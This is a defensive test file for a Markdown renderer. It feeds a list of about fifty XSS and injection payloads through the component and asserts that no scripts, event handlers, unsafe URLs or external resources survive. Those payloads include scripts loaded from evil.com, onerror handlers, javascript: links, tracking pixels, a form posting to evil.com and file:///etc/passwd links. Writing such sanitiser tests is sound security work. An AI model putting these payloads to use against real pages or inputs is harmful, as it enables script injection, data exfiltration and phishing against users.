import { cleanup, fireEvent, render } from '@testing-library/react'
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest'
import { loadMarkdown } from '../../../../renderer/text/lazy-markdown-block'
import { Markdown } from '../../../../renderer/text/markdown'

beforeAll(loadMarkdown)

afterEach(() => {
  cleanup()
  vi.unstubAllGlobals()
})

const payloads = [
  '<script>window.hacked = true</script>',
  'text <script src="https://evil.com/x.js"></script> text',
  '<img src=x onerror="window.hacked = true">',
  'inline <img src=x onerror=alert(1)> image',
  '<iframe src="https://evil.com"></iframe>',
  '<iframe srcdoc="<script>parent.hacked=1</script>">',
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>* { background: url(https://evil.com/leak) }</style>',
  '<link rel="stylesheet" href="https://evil.com/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.com">',
  '<base href="https://evil.com/">',
  '<form action="https://evil.com"><input name=a><button>Send</button></form>',
  '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  '<object data="https://evil.com/x.swf"></object><embed src="https://evil.com">',
  '<video src="https://evil.com/v.mp4" autoplay><audio src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<!-- comment --> <!-- unclosed',
  '<![CDATA[ <script>alert(1)</script> ]]>',
  '<?php echo 1 ?>',
  '![tracking](https://evil.com/pixel.png)',
  '![x](http://evil.com/pixel.png "title")',
  '![x](//evil.com/pixel.png)',
  '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=)',
  '![html](data:text/html;base64,PHNjcmlwdD4=)',
  '![js](javascript:alert(1))',
  '![file](file:///etc/passwd)',
  '![a][ref]\n\n[ref]: https://evil.com/pixel.png',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt&#58;alert(1))',
  '[a](java&#x0A;script:alert(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](file:///etc/passwd)',
  '[a](vbscript:x)',
  '[a][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<https://good.com@evil.com>',
  'https://good.com@evil.com and www.evil.com',
  '[![x](https://evil.com/p.png)](javascript:alert(1))',
  '**[a](javascript:alert`1`)** | [b](javascript:1)\n--|--\n[c](javascript:2) | ![d](https://evil.com/e.png)',
  '- [x] <input onfocus=alert(1) autofocus>\n- ![x](https://evil.com/p)',
  '> <script>alert(1)</script>\n> ![x](https://evil.com/q.png)',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '[x](https://good.com "onmouseover=alert(1)")',
  '[x](<https://good.com" onclick="alert(1)>)',
  '[^1]: <script>alert(1)</script>\n\n[^1]',
  '[dom](#__proto__)',
]

const dangerous =
  'script, iframe, object, embed, link, meta, base, form, svg:not(.lucide), math, style, video, audio, source, frame, template, noscript, details, dialog, textarea, select'

function expectSafe(root: HTMLElement) {
  expect(root.querySelector(dangerous)?.outerHTML).toBeUndefined()
  for (const element of root.querySelectorAll('*'))
    for (const { name, value } of element.attributes) {
      expect(name.startsWith('on')).toBe(false)
      expect(['srcdoc', 'formaction', 'action', 'srcset', 'background', 'poster', 'ping']).not.toContain(name)
      if (name === 'src') expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/)
      if (name === 'href') expect(value).toMatch(/^(https:\/\/(?![^/]*@)|mailto:)/)
      if (name === 'style') expect(value).not.toMatch(/url|expression|import/i)
    }
  expect('hacked' in window).toBe(false)
}

describe('hostile Markdown', () => {
  it.each(payloads)('leaves nothing dangerous in the page: %s', (payload) => {
    expectSafe(render(<Markdown text={payload} />).container)
    expectSafe(render(<Markdown text={payload} streaming />).container)
  })

  it('is safe as one text and at every length while it streams', () => {
    const text = payloads.join('\n\n')
    const view = render(<Markdown text="" streaming />)
    for (let length = 0; length < text.length; length += 97) {
      view.rerender(<Markdown text={text.slice(0, length)} streaming />)
      expectSafe(view.container)
    }
    view.rerender(<Markdown text={text} />)
    expectSafe(view.container)
  })

  it('shows raw HTML as the text it is', () => {
    const { container } = render(<Markdown text={'a <b onclick=x>bold</b>\n\n<script>alert(1)</script>'} />)
    expect(container.textContent).toContain('<b onclick=x>bold</b>')
    expect(container.textContent).toContain('<script>alert(1)</script>')
  })
})

describe('images', () => {
  it('are drawn when their bytes are in the text', () => {
    const { container } = render(<Markdown text="![dot](data:image/png;base64,iVBORw0KGgo=)" />)
    expect(container.querySelector('img')?.getAttribute('alt')).toBe('dot')
  })

  it('from elsewhere are a chip with their description and a link', () => {
    const { container } = render(<Markdown text="![a chart](https://good.com/chart.png)" />)
    expect(container.querySelector('img')).toBeNull()
    expect(container.querySelector('.deck-image-chip')?.textContent).toBe('a chart')
    expect(container.querySelector('a')?.getAttribute('href')).toBe('https://good.com/chart.png')
  })
})

describe('links', () => {
  it('open through main and nowhere else', () => {
    const call = vi.fn(async () => ({ ok: true, value: null }))
    vi.stubGlobal('deck', { call })
    const { container } = render(<Markdown text="[docs](https://good.com/docs)" />)
    const link = container.querySelector('a')
    expect(link && fireEvent.click(link)).toBe(false)
    expect(call).toHaveBeenCalledWith('links/open', { url: 'https://good.com/docs' })
  })

  it('say their true host when their text names another', () => {
    const { container } = render(<Markdown text="[https://good.com](https://evil.com/x)" />)
    expect(container.textContent).toContain('(evil.com)')
    expect(container.querySelector('a')?.title).toContain('Goes to evil.com')
  })

  it('that are not opened show where they point', () => {
    const { container } = render(<Markdown text="[read me](javascript:alert(1))" />)
    expect(container.querySelector('a')).toBeNull()
    expect(container.textContent).toBe('read me (javascript:alert(1))')
  })

  it('to files are plain code', () => {
    const { container } = render(<Markdown text="See [src/a.ts:12](src/a.ts:12) and [here](./b.md)." />)
    expect(container.querySelector('a')).toBeNull()
    expect([...container.querySelectorAll('code')].map((code) => code.textContent)).toEqual([
      'src/a.ts:12',
      'here (./b.md)',
    ])
  })
})

describe('Markdown', () => {
  it('draws the usual parts', () => {
    const text = '# T\n\n- [x] a\n\n| h |\n|--:|\n| c |\n\n> q\n\n~~gone~~ **b** `c`\n\n```ts\nconst a = 1\n```'
    const { container } = render(<Markdown text={text} />)
    for (const selector of ['h1', 'li input[checked]', 'table td', 'blockquote', 'del', 'strong', 'p code', 'pre code'])
      expect(container.querySelector(selector), selector).not.toBeNull()
    expect(container.querySelector('[data-lang="ts"] pre')?.textContent).toBe('const a = 1')
  })

  it('finds link definitions of other blocks once it is complete', () => {
    const { container } = render(<Markdown text={'Read [the docs][d].\n\n[d]: https://good.com/\n'} />)
    expect(container.querySelector('a')?.getAttribute('href')).toBe('https://good.com/')
    expect(container.textContent).toBe('Read the docs.')
  })

  it('loses no footnote', () => {
    const { container } = render(<Markdown text={'A claim[^1].\n\n[^1]: Its source.'} />)
    expect(container.textContent).toContain('Its source.')
  })

  it('does not draw finished blocks again while it streams', () => {
    const view = render(<Markdown text={'# One\n\nTwo\n\nThr'} streaming />)
    const nodes = [...view.container.querySelectorAll('.deck-md-part > *')].slice(0, 2)
    const heading = nodes[0]?.firstChild
    view.rerender(<Markdown text={'# One\n\nTwo\n\nThree\n\nFour'} streaming />)
    view.rerender(<Markdown text={'# One\n\nTwo\n\nThree\n\nFour'} />)
    const after = [...view.container.querySelectorAll('.deck-md-part > *')]
    expect(after.slice(0, 2)).toEqual(nodes)
    expect(after[0]?.firstChild).toBe(heading)
    expect(after).toHaveLength(4)
  })

  it('keeps the parts that are full as they are, and every block in its place', () => {
    const paragraphs = Array.from({ length: 40 }, (_, number) => `Paragraph ${number}`)
    const view = render(<Markdown text={paragraphs.slice(0, 20).join('\n\n')} streaming />)
    const [full] = view.container.querySelectorAll('.deck-md-part')
    view.rerender(<Markdown text={paragraphs.join('\n\n')} streaming />)
    view.rerender(<Markdown text={paragraphs.join('\n\n')} />)
    const parts = view.container.querySelectorAll('.deck-md-part')
    expect(parts[0]).toBe(full)
    expect([...parts].flatMap((part) => [...part.children].map((block) => block.textContent))).toEqual(paragraphs)
  })

  it('draws a huge unfinished block as plain text until it ends', () => {
    const text = '**b** word '.repeat(2000)
    const view = render(<Markdown text={text} streaming />)
    expect(view.container.querySelector('strong')).toBeNull()
    view.rerender(<Markdown text={text} />)
    expect(view.container.querySelector('strong')).not.toBeNull()
  })
})
